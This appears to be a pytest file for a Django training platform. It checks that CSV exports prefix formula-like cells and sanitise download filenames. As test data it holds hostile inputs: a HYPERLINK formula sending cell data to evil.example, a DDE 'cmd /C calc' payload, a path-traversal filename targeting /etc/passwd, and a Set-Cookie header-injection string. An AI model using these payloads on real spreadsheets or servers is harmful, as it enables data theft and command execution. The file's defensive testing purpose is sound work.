"""CSV safety: one writer neutralises formula cells in every export, and keeps
genuine numbers as numbers."""

import csv
import decimal
import io

import pytest
from django.urls import reverse

from kaptraining.core.csv import csv_response, csv_text, safe_cell, safe_filename
from kaptraining.credits import ce
from kaptraining.credits.services import ledger_credit
from tests.factories import EnrolmentFactory, UserFactory, make_program
from tests.factories.credits import (
    CEActivityCreditFactory,
    CEActivityFactory,
    CEApprovalFactory,
)
from tests.factories.payments import pending_enrolment, priced_cohort

LINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = [LINK, "+1", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1", "\r=1", "＝1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_prefixes_formula_starts(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (0, 0),
        (-5, -5),
        (decimal.Decimal("2.42"), decimal.Decimal("2.42")),
        (1.5, 1.5),
        ("-1.5", "-1.5"),
        ("2.42", "2.42"),
        ("Dana Okafor", "Dana Okafor"),
        ("2026-06-05", "2026-06-05"),
        ("a=b", "a=b"),
        (True, "True"),
    ],
)
def test_safe_cell_leaves_numbers_and_plain_text_alone(value, cell):
    assert safe_cell(value) == cell


def test_csv_text_round_trips_through_a_reader():
    text = csv_text([["name", "hours"], [LINK, "2.42"], ["O'Neil, Sam", -1]])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["name", "hours"], ["'" + LINK, "2.42"], ["O'Neil, Sam", "-1"]]


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("roster-cohort-12.csv", "roster-cohort-12.csv"),
        ("tuition-revenue", "tuition-revenue.csv"),
        ('../../etc/passwd"; x=.csv', "etc-passwd-x-.csv"),
        ("a\r\nSet-Cookie: x=1", "a-Set-Cookie-x-1.csv"),
        ("Résumé cohort", "Résumé-cohort.csv"),
        ("", "export.csv"),
    ],
)
def test_safe_filename(name, safe):
    assert safe_filename(name) == safe


def test_csv_response_headers_and_streaming():
    plain = csv_response("Résumé cohort.csv", [["a"], ["=1"]])
    assert plain["Content-Type"] == "text/csv; charset=utf-8"
    assert plain["Content-Disposition"] == (
        "attachment; filename*=utf-8''R%C3%A9sum%C3%A9-cohort.csv"
    )
    assert plain.content.decode() == "a\r\n'=1\r\n"
    streamed = csv_response("x.csv", iter([["a"], ["@1"]]), stream=True)
    assert streamed["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert b"".join(streamed.streaming_content).decode() == "a\r\n'@1\r\n"


# --- every export, with hostile values ----------------------------------------


def _rows(response) -> list[dict]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def _hostile_trainee():
    return UserFactory(
        first_name=LINK,
        last_name="+1",
        certificate_name="",
        licence_number="@SUM(A1:A9)",
    )


@pytest.mark.django_db
def test_roster_and_cohort_transcript_csv_neutralise_hostile_names(
    client, home_page
):
    program = make_program(home_page, lessons=0)
    enrolment = EnrolmentFactory(cohort__program=program, trainee=_hostile_trainee())
    cohort = enrolment.cohort
    ledger_credit(
        trainee=enrolment.trainee,
        program=program,
        category="didactic",
        minutes=90,
        source="adjustment",
        source_id="x",
        description="Didactic",
    )
    trainer = UserFactory(is_trainer=True)
    cohort.trainers.add(trainer)
    client.force_login(trainer)

    [row] = _rows(client.get(reverse("cohorts:roster_csv", args=[cohort.pk])))
    assert (row["first_name"], row["last_name"], row["licence_number"]) == (
        "'" + LINK,
        "'+1",
        "'@SUM(A1:A9)",
    )
    assert row["total_hours"] == "1.5"

    [row] = _rows(client.get(reverse("credits:cohort_transcript", args=[cohort.pk])))
    assert row["name"] == f"'{LINK} +1"
    assert row["licence_number"] == "'@SUM(A1:A9)"
    assert row["counted_hours"] == "1.5"


@pytest.mark.django_db
def test_ce_broker_csv_neutralises_hostile_names(client):
    activity = CEActivityFactory(contact_minutes=180)
    CEActivityCreditFactory(
        activity=activity,
        approval=CEApprovalFactory(
            body="state_board",
            board_name="CAMFT",
            approval_number="CAMFT-1",
            ce_broker_provider_number="50-9999",
        ),
        credit_hours=decimal.Decimal("3.00"),
    )
    trainee = _hostile_trainee()
    trainee.profession, trainee.licence_state = "mft", "CA"  # CAMFT's own
    trainee.save()
    participation = ce.ce_participation_open(activity=activity, trainee=trainee)
    ce.ce_evaluation_submit(
        participation_id=participation.pk,
        answers={"objectives_met": "5", "relevance": "4", "presenter": "5"},
    )
    ce.ce_attendance_verify(
        participation_id=participation.pk,
        attended_minutes=180,
        by=UserFactory(is_staff=True),
    )
    client.force_login(UserFactory(is_staff=True))

    [row] = _rows(client.get(reverse("credits:ce_broker_export", args=[activity.pk])))
    assert (row["first_name"], row["last_name"], row["licence_number"]) == (
        "'" + LINK,
        "'+1",
        "'@SUM(A1:A9)",
    )
    assert (row["provider_tracking_number"], row["hours"]) == ("50-9999", "3.00")


@pytest.mark.django_db
def test_payments_report_csv_neutralises_hostile_cohort_and_code(
    client, settings, home_page
):
    from kaptraining.payments.services import discount_apply
    from tests.factories.payments import DiscountCodeFactory

    settings.KAP_REQUIRE_STAFF_MFA = False
    cohort = priced_cohort(make_program(home_page, lessons=0), name="@SUM(A1:A9)")
    DiscountCodeFactory(code="+1", percent_off=100, is_scholarship=True)
    discount_apply(enrolment=pending_enrolment(cohort), code="+1")
    client.force_login(UserFactory(is_staff=True, is_superuser=True))

    [row] = _rows(client.get(reverse("payments_report_csv", args=["scholarships"])))
    assert row["name"] == "'+1"
    assert row["cohort"] == "'@SUM(A1:A9)"
    assert row["amount_off_cents"] == "480000"
